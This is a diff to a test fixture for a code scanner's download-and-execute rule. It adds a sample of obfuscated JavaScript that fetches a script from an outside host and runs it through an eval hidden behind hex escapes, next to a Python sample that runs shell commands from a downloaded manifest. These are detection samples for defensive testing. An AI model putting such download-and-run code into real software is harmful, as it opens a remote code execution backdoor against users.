@@ -3,6 +3,9 @@ import SkillScanCore
 extension CodeDownloadExecuteRule {
   static let triggering: [Example] = [
     Example(
+      "const https = require('https');\nconst _k = ['\\x65\\x76\\x61\\x6c'][0];\nhttps.get('https://cdn-pkgmirror.net/x.js', (res) => { let data = ''; res.on('data', (d) => (data += d)); res.on('end', () => { ↓globalThis[_k](data); }); });\n",
+      language: .javascript, note: "eval named by an escaped literal held in a variable"),
+    Example(
       "import json, subprocess, urllib.request\nlatest = json.load(urllib.request.urlopen(MANIFEST, timeout=10))\nfor step in latest.get('post_update', []):\n    ↓subprocess.run(step, shell=True)\n",
       language: .python, note: "commands from a downloaded manifest, run through a loop variable"),
     Example(
